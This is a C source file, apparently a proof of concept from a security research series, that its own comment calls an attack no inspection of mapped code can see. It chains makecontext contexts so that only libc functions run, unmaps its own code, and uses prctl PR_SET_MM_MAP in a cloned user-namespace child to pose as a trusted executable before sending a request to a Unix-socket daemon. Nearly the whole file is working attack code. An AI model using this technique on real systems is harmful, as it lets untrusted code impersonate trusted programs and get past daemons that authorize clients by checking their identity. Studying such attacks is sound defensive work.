/* The attack that no look at mapped code can see: everything that runs is libc, in an order that data says.
 *
 * Usage: chain SOCKET REQUEST TRUSTED
 *   As setmm with "child", but there is no code of ours when the daemon looks: a chain of contexts (makecontext(3), each
 *   with the next as its uc_link) calls functions of libc alone. What was ours is unmapped, and the trusted file mapped.
 */
#define _GNU_SOURCE
#include "prctl_map.h"
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <ucontext.h>
#include <unistd.h>

extern char __executable_start, _end;
enum { STACK = 1 << 16, SOCKET = 100, ANSWER = 4096 };

static char *room;

static void *take(size_t bytes) {
    char *taken = room;
    room += (bytes + 4095) & ~4095UL;
    return taken;
}

/* One call of a function of libc, then ``next``. */
static ucontext_t *then(ucontext_t *next, void (*function)(void), long a, long b, long c, long d, long e, long f) {
    ucontext_t *context = take(sizeof *context);
    getcontext(context);
    context->uc_stack.ss_sp = take(STACK);
    context->uc_stack.ss_size = STACK;
    context->uc_link = next;
    makecontext(context, function, 6, a, b, c, d, e, f);
    return context;
}
#define THEN(next, function, a, b, c, d, e, f)                                                                        \
    then(next, (void (*)(void))(function), (long)(a), (long)(b), (long)(c), (long)(d), (long)(e), (long)(f))

int main(int count, char **words) {
    if (count != 4) return 2;
    room = mmap(NULL, 1 << 22, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    struct sockaddr_un *address = take(sizeof *address);
    struct prctl_mm_map *map = take(sizeof *map);
    char *answer = take(ANSWER), *request = take(ANSWER);
    int exe = open(words[3], O_RDONLY | O_CLOEXEC), ends[2];
    address->sun_family = AF_UNIX;
    strncpy(address->sun_path, words[1], sizeof address->sun_path - 1);
    snprintf(request, ANSWER, "%s\n", words[2]);
    /* A socket that is not connected yet can be made now: what counts is that it is close-on-exec. */
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (exe < 0 || fd < 0 || pipe(ends)) return 3;
    fill_map(map, exe);
    uintptr_t start = (uintptr_t)&__executable_start & ~4095UL;
    size_t length = (((uintptr_t)&_end + 4095) & ~4095UL) - start;

    ucontext_t *child = THEN(NULL, _exit, 0, 0, 0, 0, 0, 0);
    child = THEN(child, prctl, PR_SET_MM, PR_SET_MM_MAP, map, sizeof *map, 0, 0);
    ucontext_t *chain = THEN(NULL, _exit, 0, 0, 0, 0, 0, 0);
    chain = THEN(chain, write, 1, answer, ANSWER, 0, 0, 0);
    chain = THEN(chain, recv, fd, answer + 7, ANSWER - 7, 0, 0, 0);
    chain = THEN(chain, write, fd, request, strlen(request), 0, 0, 0);
    chain = THEN(chain, connect, fd, address, sizeof *address, 0, 0, 0);
    chain = THEN(chain, mmap, 0, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, exe, 0);
    chain = THEN(chain, waitpid, -1, 0, __WALL, 0, 0, 0);
    int flags = CLONE_VM | CLONE_VFORK | CLONE_NEWUSER | SIGCHLD;
    chain = THEN(chain, clone, setcontext, (char *)take(STACK) + STACK, flags, child, 0, 0);
    chain = THEN(chain, munmap, start, length, 0, 0, 0, 0);
    memcpy(answer, "answer ", 7);
    setcontext(chain);
    return 4;
}
